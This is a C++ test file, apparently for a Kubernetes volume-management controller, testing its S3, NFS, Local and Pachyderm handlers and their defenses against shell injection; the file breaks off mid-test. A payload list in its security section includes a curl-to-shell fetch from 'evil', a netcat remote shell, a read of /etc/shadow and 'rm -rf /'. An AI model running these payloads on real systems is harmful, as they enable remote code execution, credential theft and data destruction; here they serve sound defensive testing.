TEST_CASE("S3 cleanup stops downloads, deletes the volume directory on each node, then unlabels") {
    S3Handler h;
    auto ctx = context();
    auto vm = manager();
    auto vc = s3_volume(1);
    auto download = with_phase(h.desired(ctx, vm, vc).pods.at(0), "Succeeded", "node-2");
    auto first = h.cleanup_objects(ctx, vm, vc, {{download}, {}, {}});
    CHECK_FALSE(first.done);
    CHECK(first.pods_to_delete == std::vector<std::string>{download.metadata.name});
    CHECK(first.pods.empty());

    auto key = naming::node_label_key("default", "vm1", "vol1");
    ctx.nodes = [key] { return std::vector<api::Node>{node("node-2", {{key, "true"}}), node("node-3")}; };
    auto second = h.cleanup_objects(ctx, vm, vc, {});
    CHECK_FALSE(second.done);
    REQUIRE(second.pods.size() == 1);
    const auto& cp = second.pods[0];
    CHECK(cp.spec.nodeName == "node-2");
    auto dir = naming::volume_directory("/var/datasets", vm.metadata.uid, vc.id);
    CHECK(cp.spec.containers.at(0).args ==
          std::vector<std::string>{"delete", "/vck/root" + dir.substr(dir.rfind('/')), "--allowed-root=/vck/root"});
    CHECK(cp.spec.volumes.at(0).hostPath->path == "/var/datasets");
    CHECK(cp.spec.containers.at(0).volumeMounts.at(0).subPath.empty());  // the data path is the root
    CHECK(h.cleanup_objects(ctx, vm, vc, {}).pods.at(0).metadata.name == cp.metadata.name);

    auto third = h.cleanup_objects(ctx, vm, vc, {{with_phase(cp, "Succeeded", "node-2")}, {}, {}});
    CHECK(third.done);
    CHECK(third.node_labels_to_remove == std::vector<NodeLabel>{{"node-2", key, "true"}});
    CHECK(third.pods_to_delete == std::vector<std::string>{cp.metadata.name});
}

// ---- NFS and Local -------------------------------------------------------------------------

TEST_CASE("NFS wants a PersistentVolume pre-bound to its claim, and reports the claim once bound") {
    NfsHandler h;
    auto ctx = context();
    auto vm = manager();
    auto vc = nfs_volume();
    auto d = h.desired(ctx, vm, vc);
    REQUIRE(d.persistent_volumes.size() == 1);
    REQUIRE(d.claims.size() == 1);
    const auto& pv = d.persistent_volumes[0];
    const auto& pvc = d.claims[0];
    CHECK(pv.spec.nfs->server == "10.0.0.5");
    CHECK(pv.spec.nfs->path == "/exports/data");
    CHECK(pv.spec.capacity.at("storage") == "5Gi");
    CHECK(pv.spec.accessModes == std::vector<std::string>{"ReadWriteMany"});
    CHECK(pv.spec.claimRef->name == pvc.metadata.name);
    CHECK(pv.spec.claimRef->namespace_ == "default");
    CHECK(pvc.spec.volumeName == pv.metadata.name);
    CHECK(pvc.spec.storageClassName == std::string());
    CHECK(pv.metadata.ownerReferences.empty());  // cluster-scoped: deleted by cleanup instead
    CHECK(pvc.metadata.ownerReferences.size() == 1);
    CHECK(h.status(ctx, vm, vc, {{}, {pv}, {pvc}}).phase == VolumePhase::Pending);
    auto bound = pvc;
    bound.status = api::PersistentVolumeClaimStatus{};
    bound.status->phase = "Bound";
    auto out = h.status(ctx, vm, vc, {{}, {pv}, {bound}});
    CHECK(out.phase == VolumePhase::Ready);
    CHECK(out.status.volumeSource->persistentVolumeClaim->claimName == pvc.metadata.name);
    auto plan = h.cleanup_objects(ctx, vm, vc, {{}, {pv}, {bound}});
    CHECK(plan.persistent_volumes_to_delete == std::vector<std::string>{pv.metadata.name});
    CHECK(plan.claims_to_delete == std::vector<std::string>{pvc.metadata.name});
    CHECK(h.cleanup_objects(ctx, vm, vc, {}).done);
}

TEST_CASE("Local exposes the directory on matching nodes through a WaitForFirstConsumer class") {
    LocalHandler h;
    auto ctx = context(3);
    auto vm = manager();
    api::VolumeConfig vc = nfs_volume();
    vc.sourceType = "Local";
    vc.accessMode = "ReadWriteOnce";
    vc.options = {{"path", "/var/datasets/imagenet"}};
    vc.nodeAffinity = api::NodeAffinity{};
    vc.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution =
        api::NodeSelector{{api::NodeSelectorTerm{{api::NodeSelectorRequirement{"disk", "In", {"ssd"}}}, {}}}};
    auto d = h.desired(ctx, vm, vc);
    REQUIRE(d.storage_classes.size() == 1);
    CHECK(d.storage_classes[0].volumeBindingMode == "WaitForFirstConsumer");
    CHECK(d.storage_classes[0].provisioner == "kubernetes.io/no-provisioner");
    REQUIRE(d.persistent_volumes.size() == 1);  // only node-0 has disk=ssd
    const auto& pv = d.persistent_volumes[0];
    CHECK(pv.spec.local->path == "/var/datasets/imagenet");
    // Pinned by the hostname label: the volume binder matches PV affinity on labels only.
    const auto& pin = pv.spec.nodeAffinity->required->nodeSelectorTerms.at(0);
    CHECK(pin.matchFields.empty());
    REQUIRE(pin.matchExpressions.size() == 1);
    CHECK(pin.matchExpressions[0].key == "kubernetes.io/hostname");
    CHECK(pin.matchExpressions[0].operator_ == "In");
    CHECK(pin.matchExpressions[0].values == std::vector<std::string>{"host-node-0"});
    CHECK(pv.spec.storageClassName == ctx.options.local_storage_class);
    REQUIRE(d.claims.size() == 1);
    CHECK(d.claims[0].spec.storageClassName == ctx.options.local_storage_class);
    CHECK(d.claims[0].spec.selector->matchLabels == volume_selector(vm, vc));
    CHECK(h.status(ctx, vm, vc, {{}, d.persistent_volumes, d.claims}).phase == VolumePhase::Ready);
    vc.nodeAffinity = std::nullopt;
    CHECK(h.desired(ctx, vm, vc).persistent_volumes.size() == 3);
    vc.options["path"] = "/etc";
    CHECK(h.desired(ctx, vm, vc).persistent_volumes.empty());
    CHECK(h.status(ctx, vm, vc, {}).phase == VolumePhase::Failed);
}

// ---- registry ------------------------------------------------------------------------------

namespace {
struct EchoHandler {
    std::optional<std::string> validate(const api::VolumeConfig& vc) const {
        if (!vc.has_option("echo")) return std::string("echo has to be set in options");
        return std::nullopt;
    }
    std::optional<std::string> validate(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig& vc) const {
        return validate(vc);
    }
    DesiredObjects desired(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig&) const { return {}; }
    VolumeOutcome status(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig& vc,
                         const ObservedObjects&) const {
        VolumeOutcome o;
        o.phase = VolumePhase::Ready;
        o.status.id = vc.id;
        o.status.message = "success";
        return o;
    }
    CleanupPlan cleanup_objects(const HandlerContext&, const api::VolumeManager&, const api::VolumeConfig&,
                                const ObservedObjects&) const {
        CleanupPlan p;
        p.done = true;
        return p;
    }
};
static_assert(DataHandler<EchoHandler>);
static_assert(DataHandler<S3Handler> && DataHandler<NfsHandler> && DataHandler<PachydermHandler> && DataHandler<LocalHandler>);
} // namespace

TEST_CASE("an unknown sourceType gets a message listing the known types") {
    auto r = HandlerRegistry::with_builtin_handlers();
    auto l = r.find("FTP");
    CHECK(l.handler == nullptr);
    CHECK(l.error == R"(unknown sourceType "FTP": known types are Local, NFS, Pachyderm, S3, S3-Dev, S3-Output)");
}

TEST_CASE("S3-Dev resolves to the S3 handler with a deprecation warning") {
    auto r = HandlerRegistry::with_builtin_handlers();
    auto l = r.find("S3-Dev");
    REQUIRE(l.handler);
    CHECK_FALSE(l.warning.empty());
    CHECK(l.handler->validate(s3_volume()) == std::nullopt);
    CHECK(l.handler->validate(nfs_volume()) == "awsCredentialsSecretName key has to be set in options");
    CHECK(r.find("S3").warning.empty());
}

TEST_CASE("user handlers are added without editing the library and are listed") {
    auto r = HandlerRegistry::with_builtin_handlers();
    r.add("Echo", EchoHandler{});
    auto l = r.find("Echo");
    REQUIRE(l.handler);
    auto vc = nfs_volume();
    CHECK(l.handler->validate(vc) == "echo has to be set in options");
    CHECK(l.handler->status(context(), manager(), vc, {}).status.message == "success");
    CHECK(r.find("Nope").error.find("Echo") != std::string::npos);
    CHECK_THROWS_AS(r.add_alias("X", "Missing", "w"), std::invalid_argument);
}

// ---- placement, progress and failure details -------------------------------------------------

TEST_CASE("node label keys never collide when names or ids contain dots") {
    // Namespaces cannot contain '.', names and ids can: "b.c"/"d" and "b"/"c.d" must differ.
    auto k1 = naming::node_label_key("a", "b.c", "d");
    auto k2 = naming::node_label_key("a", "b", "c.d");
    CHECK(k1 != k2);
    for (const auto& k : {k1, k2}) {
        auto name = k.substr(std::string("vck.intelai.org/").size());
        CHECK(valid_label_name(name));
        CHECK(name.find('.') == std::string::npos);  // hashed keys have no '.', readable ones two
    }
    CHECK(naming::node_label_key("a", "b", "c") == "vck.intelai.org/a.b.c");
}

TEST_CASE("replicas are counted against the nodes the volume's nodeAffinity allows") {
    S3Handler h;
    auto ctx = context(3);  // only node-0 has disk=ssd
    auto vc = s3_volume(2);
    CHECK(h.validate(ctx, manager(), vc) == std::nullopt);
    vc.nodeAffinity = api::NodeAffinity{};
    vc.nodeAffinity->requiredDuringSchedulingIgnoredDuringExecution =
        api::NodeSelector{{api::NodeSelectorTerm{{api::NodeSelectorRequirement{"disk", "In", {"ssd"}}}, {}}}};
    CHECK(h.validate(ctx, manager(), vc) ==
          "replicas [2] greater than number of nodes [1] matching the volume's nodeAffinity");
    auto pv = pachyderm_volume();
    pv.replicas = 4;
    CHECK(PachydermHandler{}.validate(ctx, manager(), pv) == "replicas [4] greater than number of nodes [3]");
}

TEST_CASE("a missing Secret fails a volume before its pods exist, but not one already downloaded") {
    S3Handler h;
    auto ctx = context();
    auto vm = manager();
    auto vc = s3_volume(1);
    auto pod = h.desired(ctx, vm, vc).pods.at(0);
    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> { return std::nullopt; };
    auto before = h.status(ctx, vm, vc, {});
    CHECK(before.phase == VolumePhase::Failed);
    CHECK(before.status.message == R"(awsCredentialsSecretName: Secret "aws-creds" not found in namespace "default")");
    auto after = h.status(ctx, vm, vc, {{with_phase(pod, "Succeeded")}, {}, {}});
    CHECK(after.phase == VolumePhase::Ready);
    // Nodes leaving after placement do not fail the volume either.
    ctx.nodes = [] { return std::vector<api::Node>{}; };
    CHECK(h.status(ctx, vm, vc, {{with_phase(pod, "Succeeded")}, {}, {}}).phase == VolumePhase::Ready);
    CHECK(h.status(ctx, vm, vc, {}).phase == VolumePhase::Failed);
}

TEST_CASE("a stuck download says why while pending") {
    S3Handler h;
    auto ctx = context();
    auto vc = s3_volume(1);
    auto pod = with_phase(h.desired(ctx, manager(), vc).pods.at(0), "Pending", "");
    api::Condition unschedulable;
    unschedulable.type = "PodScheduled";
    unschedulable.status = "False";
    unschedulable.message = "0/3 nodes are available: 3 node(s) had untolerated taint";
    pod.status->conditions.push_back(unschedulable);
    auto out = h.status(ctx, manager(), vc, {{pod}, {}, {}});
    CHECK(out.phase == VolumePhase::Pending);
    CHECK(out.status.message == "downloading: 0 of 1 replicas done (pod " + pod.metadata.name +
                                    " unschedulable: 0/3 nodes are available: 3 node(s) had untolerated taint)");
    CHECK(out.node_labels.empty());  // not placed: no node holds data

    pod.status->conditions.clear();
    pod.spec.nodeName = "node-1";
    api::ContainerStatus cs;
    cs.name = "fetch";
    cs.state = api::ContainerState{};
    cs.state->waiting = api::ContainerStateWaiting{"CreateContainerConfigError", R"(secret "aws-creds" not found)"};
    pod.status->containerStatuses.push_back(cs);
    out = h.status(ctx, manager(), vc, {{pod}, {}, {}});
    CHECK(out.status.message.find(R"(waiting: CreateContainerConfigError: secret "aws-creds" not found)") !=
          std::string::npos);
}

TEST_CASE("a download pod whose data path the kubelet refuses to mount fails the volume; its cleanup has nothing to delete") {
    // The kubelet refuses a subPath that a symlink leads out of its volume (the allowed root):
    // unlike a missing Secret that may still appear, this does not heal, so the volume fails.
    S3Handler h;
    auto ctx = context();
    for (bool resync : {false, true}) {
        auto vc = s3_volume(1);
        if (resync) vc.options["resync"] = "true";
        auto pod = with_phase(h.desired(ctx, manager(), vc).pods.at(0), "Pending", "node-2");
        api::ContainerStatus cs;
        cs.name = "fetch";
        cs.state = api::ContainerState{};
        cs.state->waiting = api::ContainerStateWaiting{
            "CreateContainerConfigError", R"(failed to create subPath directory for volumeMount "vck-data" of container "fetch")"};
        (resync ? pod.status->initContainerStatuses : pod.status->containerStatuses).push_back(cs);
        auto out = h.status(ctx, manager(), vc, {{pod}, {}, {}});
        CHECK(out.phase == VolumePhase::Failed);
        CHECK(out.status.message ==
              "error during data download using pod " + pod.metadata.name +
                  R"( on node node-2: failed to create subPath directory for volumeMount "vck-data" of container "fetch")"
                  " (the data path leads out of its allowed data root there: a symlink?)");
        CHECK(out.node_labels.size() == 1);  // cleanup still visits the node
    }

    auto key = naming::node_label_key("default", "vm1", "vol1");
    ctx.nodes = [key] { return std::vector<api::Node>{node("node-2", {{key, "true"}})}; };
    auto linked = s3_volume(1);
    linked.options["dataPath"] = "/var/datasets/link";
    auto cleanup = h.cleanup_objects(ctx, manager(), linked, {}).pods.at(0);
    CHECK(cleanup.spec.containers.at(0).volumeMounts.at(0).subPath == "link");
    cleanup = with_phase(cleanup, "Pending", "node-2");
    api::ContainerStatus cs;
    cs.name = "delete";
    cs.state = api::ContainerState{};
    cs.state->waiting = api::ContainerStateWaiting{
        "CreateContainerConfigError", R"(failed to prepare subPath for volumeMount "vck-root" of container "delete")"};
    cleanup.status->containerStatuses.push_back(cs);
    CHECK(h.cleanup_objects(ctx, manager(), linked, {{cleanup}, {}, {}}).done);
}

TEST_CASE("without a log, a failed download quotes the container's termination message") {
    S3Handler h;
    auto ctx = context();
    ctx.pod_log_tail = nullptr;
    auto vc = s3_volume(1);
    auto pod = h.desired(ctx, manager(), vc).pods.at(0);
    for (const auto& c : pod.spec.containers) CHECK(c.terminationMessagePolicy == "FallbackToLogsOnError");
    pod = with_phase(pod, "Failed");
    api::ContainerStatus cs;
    cs.name = "fetch";
    cs.state = api::ContainerState{};
    cs.state->terminated = api::ContainerStateTerminated{};
    cs.state->terminated->exitCode = 3;
    cs.state->terminated->message = "GET s3://bucket/data/a.jpg: 403 AccessDenied";
    pod.status->containerStatuses.push_back(cs);
    CHECK(h.status(ctx, manager(), vc, {{pod}, {}, {}}).status.message ==
          "error during data download using pod " + pod.metadata.name + ": GET s3://bucket/data/a.jpg: 403 AccessDenied");
}

TEST_CASE("cleanup pods create the data path if a node never got it, so cleanup always finishes") {
    S3Handler h;
    auto ctx = context();
    auto key = naming::node_label_key("default", "vm1", "vol1");
    ctx.nodes = [key] { return std::vector<api::Node>{node("node-1", {{key, "true"}})}; };
    auto plan = h.cleanup_objects(ctx, manager(), s3_volume(1), {});
    REQUIRE(plan.pods.size() == 1);
    CHECK(plan.pods[0].spec.volumes.at(0).hostPath->type == "DirectoryOrCreate");
    CHECK(plan.pods[0].spec.containers.at(0).command == std::vector<std::string>{"vck-fetch"});
}

TEST_CASE("Pachyderm pods give the server address to old and new pachctl alike") {
    auto vc = pachyderm_volume();
    vc.options["pachydermServiceAddress"] = "pachd.pachyderm.svc:650";
    auto pods = PachydermHandler{}.desired(context(), manager(), vc).pods;
    REQUIRE(pods.size() == 1);
    const auto& env = pods[0].spec.containers.at(0).env;
    REQUIRE(env.size() == 2);
    CHECK(env[0].name == "PACHD_ADDRESS");
    CHECK(env[1].name == "ADDRESS");
    for (const auto& e : env) CHECK(e.value == "pachd.pachyderm.svc:650");
}

TEST_CASE("Pachyderm pods run a fixed script in /bin/sh that picks pachctl's syntax, with the options as its parameters") {
    // pachctl 1.0 to 1.8 know only `get-file REPO BRANCH PATH`; 1.9 and 2.x only `get file
    // REPO@BRANCH:PATH`. Which one the image holds is asked where it runs.
    const std::string recursive = R"(v=`pachctl version --client-only`
case "$v" in
1.[0-8] | 1.[0-8][!0-9]*) exec pachctl get-file --recursive --output="$4" -- "$1" "$2" "$3" ;;
esac
exec pachctl get file --recursive --output "$4" -- "$1@$2:$3"
)";
    const std::string single = R"(v=`pachctl version --client-only`
case "$v" in
1.[0-8] | 1.[0-8][!0-9]*) exec pachctl get-file --output="$4" -- "$1" "$2" "$3" ;;
esac
exec pachctl get file --output "$4" -- "$1@$2:$3"
)";
    auto ctx = context();
    ctx.options.pachctl_image = "pachyderm/pachctl:2.11.0";
    auto vc = pachyderm_volume();  // inputPath /training/: a directory
    auto pods = PachydermHandler{}.desired(ctx, manager(), vc).pods;
    REQUIRE(pods.size() == 1);
    const auto& c = pods[0].spec.containers.at(0);
    CHECK(c.image == "pachyderm/pachctl:2.11.0");
    CHECK(c.command == std::vector<std::string>{"/bin/sh", "-c", recursive, "sh"});
    CHECK(c.args == std::vector<std::string>{"images", "master", "/training/", "/vck/data/out"});

    vc.options["inputPath"] = "/training/a.png";
    vc.options["outputPath"] = "./x/../a.png";
    pods = PachydermHandler{}.desired(ctx, manager(), vc).pods;
    REQUIRE(pods.size() == 1);
    CHECK(pods[0].spec.containers.at(0).command == std::vector<std::string>{"/bin/sh", "-c", single, "sh"});
    CHECK(pods[0].spec.containers.at(0).args ==
          std::vector<std::string>{"images", "master", "/training/a.png", "/vck/data/a.png"});
}

// ---- security: long names, injection payloads, data roots, for every handler -----------------

namespace {

/// Every container of every pod a handler would create (downloads and cleanups).
std::vector<api::Container> all_containers(const std::vector<api::Pod>& pods) {
    std::vector<api::Container> out;
    for (const auto& p : pods) {
        out.insert(out.end(), p.spec.initContainers.begin(), p.spec.initContainers.end());
        out.insert(out.end(), p.spec.containers.begin(), p.spec.containers.end());
    }
    return out;
}

bool is_shell(const std::string& program) {
    auto base = program.substr(program.rfind('/') == std::string::npos ? 0 : program.rfind('/') + 1);
    for (auto sh : {"sh", "bash", "dash", "ash", "zsh", "ksh", "busybox", "env"})
        if (base == sh) return true;
    return false;
}

/// Where `payload` lands in `containers`: every argv entry or env value containing it must be
/// the payload itself or "--flag=<...payload...>" (one entry, never split or re-parsed), and
/// no container may run a shell but Pachyderm's, whose script is one of its two fixed texts
/// (a value reaches it only as a positional parameter). Returns how many entries carry it.
int literal_occurrences(const std::vector<api::Container>& containers, const std::string& payload) {
    int n = 0;
    for (const auto& c : containers) {
        REQUIRE_FALSE(c.command.empty());
        if (is_shell(c.command[0])) {
            using Command = std::vector<std::string>;
            CHECK_MESSAGE((c.command == Command{"/bin/sh", "-c", PachydermDownload::script(false), "sh"} ||
                           c.command == Command{"/bin/sh", "-c", PachydermDownload::script(true), "sh"}),
                          c.command[0]);
        }
        for (const auto& a : c.command) CHECK(a.find(payload) == std::string::npos);
        for (const auto& a : c.args) {
            if (a.find(payload) == std::string::npos) continue;
            ++n;
            bool whole = a == payload || (a.rfind("--", 0) == 0 && a.find('=') != std::string::npos &&
                                          a.find(payload) > a.find('='));
            bool positional_path = a.rfind("/vck/", 0) == 0 || a.rfind("s3://", 0) == 0;
            CHECK_MESSAGE((whole || positional_path), a);
        }
        for (const auto& e : c.env)
            if (e.value.find(payload) != std::string::npos) ++n;
    }
    return n;
}

const std::vector<std::string> injection_payloads{
    "; rm -rf / #", "$(reboot)", "`id`", "' || curl http://evil/x | sh '", "a\nb && halt", "--allowed-root=/",
    "\"; kill -9 1; echo \"", "${IFS}cat${IFS}/etc/shadow", "|nc evil 1 -e sh"};

} // namespace

TEST_CASE("shell-injection payloads in every S3 option are rejected or stored literally") {
    S3Handler h;
    auto ctx = context();
    ctx.secret = [](const std::string&, const std::string&) -> std::optional<api::Secret> {
        api::Secret s;
        s.data = {{"awsAccessKeyID", "QQ=="}, {"awsSecretAccessKey", "Qg=="}};
        return s;
    };
    for (const auto& payload : injection_payloads) {
        CAPTURE(payload);
        auto accepted = [&](api::VolumeConfig vc) {
            REQUIRE(h.validate(ctx, manager(), vc) == std::nullopt);
            auto pods = h.desired(ctx, manager(), vc).pods;
            REQUIRE(pods.size() == static_cast<std::size_t>(vc.replicas));
            return pods;
        };
        auto vc = s3_volume(1);
        vc.options["sourceURL"] = "s3://bucket/" + payload;
        CHECK(literal_occurrences(all_containers(accepted(vc)), "s3://bucket/" + payload) == 1);

        vc = s3_volume(1);
        vc.options["endpointURL"] = "https://h/" + payload;
        CHECK(literal_occurrences(all_containers(accepted(vc)), "https://h/" + payload) == 1);

        vc = s3_volume(1);
        vc.options["resync"] = "true";
        vc.options["sourceURL"] = "s3://bucket/" + payload;
        CHECK(literal_occurrences(all_containers(accepted(vc)), "s3://bucket/" + payload) == 2);  // fetch, sync-back

        vc = s3_volume(1);
        vc.options["awsCredentialsSecretName"] = payload;
        auto pods = accepted(vc);
        CHECK(literal_occurrences(all_containers(pods), payload) == 0);  // only a secretKeyRef name
        CHECK(pods[0].spec.containers[0].env.at(0).valueFrom->secretKeyRef->name == payload);

        vc = s3_volume(1);
        boost::json::object strategy;
        strategy[payload] = 1;
        vc.options["distributionStrategy"] = boost::json::serialize(strategy);
        if (h.validate(vc) == std::nullopt)
            CHECK(literal_occurrences(all_containers(h.desired(ctx, manager(), vc).pods), payload) == 1);
        else
            CHECK(h.validate(vc)->rfind("invalid distributionStrategy", 0) == 0);

        vc = s3_volume(1);
        vc.options["dataPath"] = "/var/datasets/" + payload;
        if (payload.find('/') == std::string::npos) {
            pods = accepted(vc);
            CHECK(literal_occurrences(all_containers(pods), payload) == 0);  // a hostPath, never argv
            CHECK(pods[0].spec.volumes.at(0).hostPath->path == "/var/datasets");
            CHECK(pods[0].spec.containers.at(0).volumeMounts.at(0).subPath.rfind(payload + "/vck-resource-", 0) == 0);
        }

        for (auto key : {"timeoutForDataDownload", "resync"}) {
            vc = s3_volume(1);
            vc.options[key] = payload;
            CHECK(h.validate(vc).has_value());
            CHECK(h.desired(ctx, manager(), vc).pods.empty());
        }
    }
}

TEST_CASE("shell-injection payloads in every Pachyderm option are stored as single argv or env entries") {
    PachydermHandler h;
    auto ctx = context();
    for (const auto& payload : injection_payloads) {
        CAPTURE(payload);
        // The shell's "$1", "$2", "$3": the script hands them to pachctl after `--`.
        std::size_t position = 0;
        for (auto key : {"repo", "branch", "inputPath"}) {
            auto vc = pachyderm_volume();
            vc.options[key] = payload;
            if (std::string(key) == "repo" && payload.front() == '-') {
                CHECK(h.validate(ctx, manager(), vc) == "repo cannot start with '-'");
                CHECK(h.desired(ctx, manager(), vc).pods.empty());
                ++position;
                continue;
            }
            REQUIRE(h.validate(ctx, manager(), vc) == std::nullopt);
            auto pods = h.desired(ctx, manager(), vc).pods;
            REQUIRE(pods.size() == 1);
            CHECK(pods[0].spec.containers.at(0).args.at(position++) == payload);
            CHECK(literal_occurrences(all_containers(pods), payload) == 1);
        }
        auto vc = pachyderm_volume();
        vc.options["pachydermServiceAddress"] = payload;
        auto pods = h.desired(ctx, manager(), vc).pods;
        REQUIRE(pods.size() == 1);
        CHECK(literal_occurrences(all_containers(pods), payload) == 2);  // PACHD_ADDRESS and ADDRESS
        for (const auto& a : pods[0].spec.containers[0].args) CHECK(a.find(payload) == std::string::npos);

        vc = pachyderm_volume();
        vc.options["outputPath"] = "out/" + payload;
        if (auto e = h.validate(vc)) {
            CHECK(*e == "outputPath has to be a relative path inside the volume");
        } else {
            // Lexically normalised ("//" collapses), then one argv entry.
            auto normal = std::filesystem::path("out/" + payload).lexically_normal().generic_string();
            pods = h.desired(ctx, manager(), vc).pods;
            REQUIRE(pods.size() == 1);
            CHECK(literal_occurrences(all_containers(pods), "/vck/data/" + normal) == 1);
        }
        vc = pachyderm_volume();
        vc.options["timeoutForDataDownload"] = payload;
        CHECK(h.validate(vc) == "error while parsing timeout for data download");
    }
}

namespace {

/// Runs a Pachyderm download container's command and args for real (the host's /bin/sh in
/// the image's place) with the container's env and a PATH holding only a stub pachctl, and
/// tells what pachctl was given. The stub answers `version --client-only` with STUB_VERSION
/// (failing when that is empty, as a broken pachctl would), otherwise prints its argv
/// NUL-separated (each argument exactly as received) and exits STUB_EXIT (default 0). The
/// shell runs in the stub's directory, so anything a value managed to run there would leave
/// its trace; with only builtins on hand, a hostile value would write with a redirection.
class StubPachctl {
public:
    struct Call {
        int exit_code = -1;
        std::vector<std::string> argv;
    };

    StubPachctl() {
        std::string dir = (std::filesystem::temp_directory_path() / "vck-pachctl-XXXXXX").string();
        REQUIRE(::mkdtemp(dir.data()) != nullptr);
        dir_ = dir;
        std::ofstream(dir_ / "pachctl") << R"(#!/bin/sh
if [ "$*" = "version --client-only" ]; then
  [ -n "$STUB_VERSION" ] || { echo "stub pachctl: no version" >&2; exit 1; }
  printf '%s\n' "$STUB_VERSION"
  exit 0
fi
printf '%s\0' "$@"
exit "${STUB_EXIT:-0}"
)";
        std::filesystem::permissions(dir_ / "pachctl", std::filesystem::perms::owner_all);
    }
    ~StubPachctl() {
        std::error_code ec;
        std::filesystem::remove_all(dir_, ec);
    }
    StubPachctl(const StubPachctl&) = delete;
    StubPachctl& operator=(const StubPachctl&) = delete;

    const std::filesystem::path& dir() const { return dir_; }

    Call run(const api::Container& c, const std::string& version, std::vector<std::string> env = {}) const {
        std::vector<std::string> args = c.command;
        args.insert(args.end(), c.args.begin(), c.args.end());
        env.push_back("PATH=" + dir_.string());
        env.push_back("STUB_VERSION=" + version);
        for (const auto& e : c.env) env.push_back(e.name + "=" + e.value);
        std::vector<char*> argv, envp;
        for (auto& a : args) argv.push_back(a.data());
        for (auto& e : env) envp.push_back(e.data());
        argv.push_back(nullptr);
        envp.push_back(nullptr);
        int out[2];
        REQUIRE(::pipe(out) == 0);
        pid_t pid = ::fork();
        REQUIRE(pid >= 0);
        if (pid == 0) {
            ::dup2(out[1], 1);
            int null = ::open("/dev/null", O_WRONLY);
            if (null >= 0) ::dup2(null, 2);
            ::close(out[0]);
            ::close(out[1]);
            if (::chdir(dir_.c_str()) != 0) ::_exit(126);
            ::execve(argv[0], argv.data(), envp.data());
            ::_exit(127);
        }
        ::close(out[1]);
        std::string bytes;
        char buf[4096];
        for (ssize_t n; (n = ::read(out[0], buf, sizeof buf)) != 0;) {
            if (n < 0 && errno == EINTR) continue;
            if (n < 0) break;
            bytes.append(buf, static_cast<std::size_t>(n));
        }
        ::close(out[0]);
        int status = 0;
        while (::waitpid(pid, &status, 0) < 0 && errno == EINTR) {}
        Call call;
        call.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
        for (std::size_t start = 0; start < bytes.size();) {
            auto end = bytes.find('\0', start);
            if (end == std::string::npos) end = bytes.size();
            call.argv.push_back(bytes.substr(start, end - start));
            start = end + 1;
        }
        return call;
    }

private:
    std::filesystem::path dir_;
};

api::Container pachyderm_container(const api::VolumeConfig& vc) {
    auto pods = PachydermHandler{}.desired(context(), manager(), vc).pods;
    REQUIRE(pods.size() == 1);
    return pods[0].spec.containers.at(0);
}

/// What pachctl 1.0 to 1.8, and what any later one, should be given for `vc` (output "out").
std::vector<std::string> get_file_1x(const api::VolumeConfig& vc) {
    std::vector<std::string> argv{"get-file"};
    if (vc.option("inputPath").ends_with('/')) argv.push_back("--recursive");
    argv.insert(argv.end(), {"--output=/vck/data/out", "--", vc.option("repo"), vc.option("branch"), vc.option("inputPath")});
    return argv;
}
std::vector<std::string> get_file_2x(const api::VolumeConfig& vc) {
    std::vector<std::string> argv{"get", "file"};
    if (vc.option("inputPath").ends_with('/')) argv.push_back("--recursive");
    argv.insert(argv.end(), {"--output", "/vck/data/out", "--",
                             vc.option("repo") + "@" + vc.option("branch") + ":" + vc.option("inputPath")});
    return argv;
}

} // namespace

TEST_CASE("the Pachyderm script gives pachctl 1.0 to 1.8 `get-file`, any other version `get file`, and pachctl's exit code") {
    StubPachctl stub;
    auto directory = pachyderm_volume();  // /training/
    auto file = pachyderm_volume();
    file.options["inputPath"] = "/training/a.png";
    CHECK(get_file_2x(directory) == std::vector<std::string>{"get", "file", "--recursive", "--output", "/vck/data/out", "--",
                                                             "images@master:/training/"});
    CHECK(get_file_1x(file) == std::vector<std::string>{"get-file", "--output=/vck/data/out", "--", "images", "master",
                                                        "/training/a.png"});
    // `pachctl version --client-only` prints MAJOR.MINOR.MICRO and maybe a suffix.
    for (std::string version : {"1.0.0", "1.3.19", "1.8.7", "1.8", "1.8.0-rc1", "1.7.0-a1b2c3"}) {
        CAPTURE(version);
        CHECK(stub.run(pachyderm_container(directory), version).argv == get_file_1x(directory));
        CHECK(stub.run(pachyderm_container(file), version).argv == get_file_1x(file));
    }
    // 1.9 and later; and what the script cannot read (nothing: pachctl failed) is taken as current.
    for (std::string version : {"1.9.0", "1.9.8", "1.10.1", "1.80.0", "2.0.0", "2.11.0", "11.2.0", "unknown", ""}) {
        CAPTURE(version);
        CHECK(stub.run(pachyderm_container(directory), version).argv == get_file_2x(directory));
        CHECK(stub.run(pachyderm_container(file), version).argv == get_file_2x(file));
    }
    // exec: pachctl's exit code is the container's.
    CHECK(stub.run(pachyderm_container(file), "1.8.7").exit_code == 0);
    CHECK(stub.run(pachyderm_container(file), "1.8.7", {"STUB_EXIT=3"}).exit_code == 3);
    CHECK(stub.run(pachyderm_container(file), "2.11.0", {"STUB_EXIT=4"}).exit_code == 4);
}

TEST_CASE("hostile Pachyderm values reach pachctl as one literal argument each, in either syntax") {
    StubPachctl stub;
    auto payloads = injection_payloads;
    payloads.insert(payloads.end(), {"$(echo x >pwned)", "`echo x >pwned`", "; echo x >pwned #", "-rf", "a  b", "*",
                                     "\"$1\" '$2'", "$PATH"});
    for (const auto& payload : payloads) {
        for (auto key : {"repo", "branch", "inputPath"}) {
            if (std::string(key) == "repo" && payload.front() == '-') continue;  // refused (validation above)
            auto vc = pachyderm_volume();
            vc.options[key] = payload;
            CAPTURE(payload);
            CAPTURE(key);
            auto c = pachyderm_container(vc);
            auto old = stub.run(c, "1.8.7");
            CHECK(old.exit_code == 0);
            CHECK(old.argv == get_file_1x(vc));
            auto current = stub.run(c, "2.11.0");
            CHECK(current.exit_code == 0);
            CHECK(current.argv == get_file_2x(vc));
        }
    }
    CHECK_FALSE(std::filesystem::exists(stub.dir() / "pwned"));
}

TEST_CASE("NFS and Local options reach only PV fields, never a command") {
    auto ctx = context();
    for (const auto& payload : injection_payloads) {
        CAPTURE(payload);
        auto vc = nfs_volume();
        vc.options["server"] = payload;
        vc.options["path"] = "/exports/" + payload;
        auto d = NfsHandler{}.desired(ctx, manager(), vc);
        CHECK(d.pods.empty());
